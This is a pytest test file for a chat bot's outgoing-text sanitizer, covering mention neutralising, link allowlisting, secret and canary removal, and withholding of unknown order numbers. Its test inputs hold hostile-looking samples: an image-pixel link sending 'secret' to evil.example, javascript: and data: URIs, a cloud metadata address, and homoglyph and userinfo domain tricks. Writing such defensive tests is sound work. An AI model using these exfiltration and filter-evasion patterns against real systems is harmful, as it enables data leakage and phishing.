"""What may leave and what stands instead of the rest, case by case."""

from __future__ import annotations

import pytest

from bot.live import ZERO_WIDTH
from bot.outgoing import REMOVED, WINDOW_CHARS, WITHHELD, Outgoing, Policy, clean

POLICY = Policy(
    link_hosts=frozenset({"example.com", "help.shop.de"}),
    addressee="U1",
    knows=lambda digits: digits == "123123",
    canaries=frozenset({"CANARY-xyz"}),
)


def cleaned(text: str) -> str:
    """With a visible sign where the zero-width space is."""
    return clean(text, POLICY).replace(ZERO_WIDTH, "·")


@pytest.mark.behaviour("outgoing.mentions")
@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("@everyone and @here", "@·everyone and @·here"),
        ("@Channel, foo@everyone", "@·Channel, foo@·everyone"),
        ("＠everyone ﹫here", "＠·everyone ﹫·here"),
        ("@\u202eeveryone @\u200beveryone @\u2060here", "@·everyone @·everyone @·here"),
        ("<!channel> <!here> <!everyone|x> <!date^1^x^https://evil.example>",
         "<·!channel> <·!here> <·!everyone|x> <·!date^1^x^evil[.]example>"),
        ("<!subteam^S1> <#C1|general> <#123>", "<·!subteam^S1> <·#C1|general> <·#123>"),
        ("<@U2> <@!22> <@&33> <@U1 > <@everyone>", "<·@·U2> <·@·!22> <·@·&33> <·@·U1 > <·@·everyone>"),
        ("Hello <@U1>!", "Hello <@U1>!"),
        ("</ban:1> <id:customize>", "<·/ban:1> <·id:customize>"),
        ("write to santa@clau.se.", "write to santa@clau.se."),
        ("at 3 @ 4", "at 3 @ 4"),
        ("`@everyone` ```\n<!here>\n```", "`@·everyone` ```\n<·!here>\n```"),
    ],
)  # fmt: skip
def test_mentions_are_inert(text: str, left: str) -> None:
    assert cleaned(text) == left


@pytest.mark.behaviour("outgoing.links")
@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("see https://example.com/x?a=b#c and HTTP://WWW.example.com:8080/.", None),
        ("(https://example.com) **https://help.shop.de**, <https://example.com|here>", None),
        ("[help](https://help.shop.de/a_b) [x](<https://example.com>)", None),
        ("example.com and www.example.com/help", None),
        ("https://evil.example/x?q=1.", "evil[.]example/x?q=1."),
        ("[click](https://evil.example/x)", "[click] (evil[.]example/x)"),
        ("![pixel](https://evil.example/p.png?d=secret)", "![pixel] (evil[.]example/p[.]png?d=secret)"),
        ("[a][1]\n\n[1]: https://evil.com", "[a][1]\n\n[1]·: evil[.]com"),
        ("[a][1]\n\n[1]: https\\:/\\/evil\\.com", "[a][1]\n\n[1]·: https\\:/\\/evil\\.com"),
        ("> - [b c]:https&colon;//evil&period;com", "> - [b c]·:https&colon;//evil&period;com"),
        ("`for sled in sleds[1:]: print(sled)`", None),
        ("evil.xn--p1ai", "evil[.]xn--p1ai"),
        ("[a](evil.com) [b](//evil.com) [c](mailto:x@evil.com) [d]( https://evil.com )",
         "[a] (evil[.]com) [b] (//evil[.]com) [c] (mailto:x@·evil[.]com) [d] ( evil[.]com )"),
        ("<https://evil.com|https://example.com/>", "<evil[.]com|https://example.com/>"),
        ("https://example.com@evil.com", "example[.]com@·evil[.]com"),
        ("https://example.com.evil.com https://evilexample.com", "example[.]com[.]evil[.]com evilexample[.]com"),
        ("https://example.com\\@evil.com", "example[.]com\\@·evil[.]com"),
        ("https://example.com,evil.com https://example.com$.evil.com",
         "example[.]com,evil[.]com example[.]com$[.]evil[.]com"),
        ("https://example.com:pass@evil.com/", f"example[.]com:{REMOVED}@·evil[.]com/"),
        ("https://example.com。evil.com", "https://example.com 。evil[.]com"),
        ("https://example.com/?u=https://evil.com/@everyone", "https://example.com/?u=https%3A//evil.com/%40everyone"),
        ("ftp://evil.com slack://x hxxps://evil.com https:\\\\evil.com https:evil.com",
         "evil[.]com x evil[.]com evil[.]com https:evil[.]com"),
        ("visit evil.com, www.evil.weird or evil.weird/x", "visit evil[.]com, www[.]evil[.]weird or evil[.]weird/x"),
        ("еvil.com 例え.jp -evil.com #evil.com _evil.com", "еvil[.]com 例え[.]jp -evil[.]com #evil[.]com _evil[.]com"),
        ("readme.txt, Node.js, e.g. this, z.B., v1.2.3, 12.50 EUR, 3.5kg, 14.30 Uhr", None),
        ("http://169.254.169.254/latest http://localhost:9/x", "169[.]254[.]169[.]254/latest localhost:9/x"),
        ("<x://!channel> [a]x://(evil.com)", "<·!channel> [a]·(evil[.]com)"),
        ("javascript:alert(1) x", f"{REMOVED}) x"),
        ("[x](javascript:alert)", f"[x] ({REMOVED})"),
        ("data:text/html;base64,AAAA and your data: fine", f"{REMOVED} and your data: fine"),
    ],
)  # fmt: skip
def test_links_lead_to_listed_hosts_only(text: str, left: str | None) -> None:
    assert cleaned(text) == (text if left is None else left)


@pytest.mark.behaviour("outgoing.secrets")
@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("key sk-abcdefghijklmnop1234.", f"key {REMOVED}."),
        ("xoxb-1234-abcdef, xapp-1-A-abcdefgh", f"{REMOVED}, {REMOVED}"),
        ("it says canary-XYZ!", f"it says {REMOVED}!"),
        ("4111 1111 1111 1111 and 4111-1111-1111-1111", f"{REMOVED} and {REMOVED}"),
        ("4111 1111 1111 1112 stays", "4111 1111 1111 1112 stays"),
        ("a -----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----\nb", f"a {REMOVED}\nb"),
        ("-----BEGIN PRIVATE KEY-----\nnever ends", REMOVED),
        ("eyJhbGciOiJIUzI1NiJ9." + "a" * 500 + ".b) next", f"{REMOVED}) next"),
        ("s\u200bk-abcdefghijkl\xadmnop1234", REMOVED),
    ],
)
def test_secrets_are_removed(text: str, left: str) -> None:
    assert cleaned(text) == left


@pytest.mark.behaviour("outgoing.numbers")
@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Your order 123123 is on its way, ticket #123123 too.", None),
        ("Ticket #12345 was opened.", f"Ticket {WITHHELD} was opened."),
        ("order number: **98765** and 55555", f"order number: **{WITHHELD}** and {WITHHELD}"),
        ("Ihre Bestellung Nr. 77777, Bestellnummer lautet 88888.",
         f"Ihre Bestellung Nr. {WITHHELD}, Bestellnummer lautet {WITHHELD}."),
        ("TICKET-12345, order#12345, Ticket ORD-12345", f"{WITHHELD}, {WITHHELD}, Ticket {WITHHELD}"),
        ("#4444", WITHHELD),
        ("order id\n12345", f"order id\n{WITHHELD}"),
        ("The order arrives 2024-11-08, ordered in 2023; an order of 2024; total 12345 EUR; order total 1234.50", None),
        ("case 2024", f"case {WITHHELD}"),
        ("call 08001234567 or 1-800-555-0199", None),
    ],
)  # fmt: skip
def test_numbers_that_nobody_knows_are_withheld(text: str, left: str | None) -> None:
    assert cleaned(text) == (text if left is None else left)


@pytest.mark.behaviour("outgoing.links")
def test_without_a_policy_nothing_is_listed_or_known() -> None:
    assert clean("order 123123 at https://example.com <@None>", Policy()) == (
        f"order {WITHHELD} at example[.]com <{ZERO_WIDTH}@{ZERO_WIDTH}None>"
    )


@pytest.mark.behaviour("outgoing.stream")
def test_words_are_released_as_soon_as_they_are_whole() -> None:
    outgoing = Outgoing(POLICY)
    assert outgoing.feed("Hello Oma") == "Hello "
    assert outgoing.feed("r, see https://evil") == "Omar, see "
    assert outgoing.feed(".com now") == "evil[.]com "
    assert outgoing.finish() == "now"


@pytest.mark.behaviour("outgoing.links")
def test_a_listed_link_that_is_longer_than_the_window_is_no_link() -> None:
    fits = "https://example.com/" + "a" * (WINDOW_CHARS - 20)
    assert clean(fits, POLICY) == fits
    assert ZERO_WIDTH in clean(fits + "a" * 50, POLICY)


@pytest.mark.behaviour("outgoing.ordinary")
def test_japanese_without_spaces_is_left_as_it_is() -> None:
    text = "ご注文の商品は配送中です。" * 100
    assert clean(text, POLICY) == text


@pytest.mark.behaviour("outgoing.secrets")
def test_long_and_short_canaries() -> None:
    policy = Policy(canaries=frozenset({"short", "", "token" + "x" * 300, "several words andtheonewithsubstance"}))
    text = f"short words, token{'x' * 300}! and theonewith andtheonewithsubstance."
    assert clean(text, policy) == f"short words, {REMOVED} and theonewith {REMOVED}."
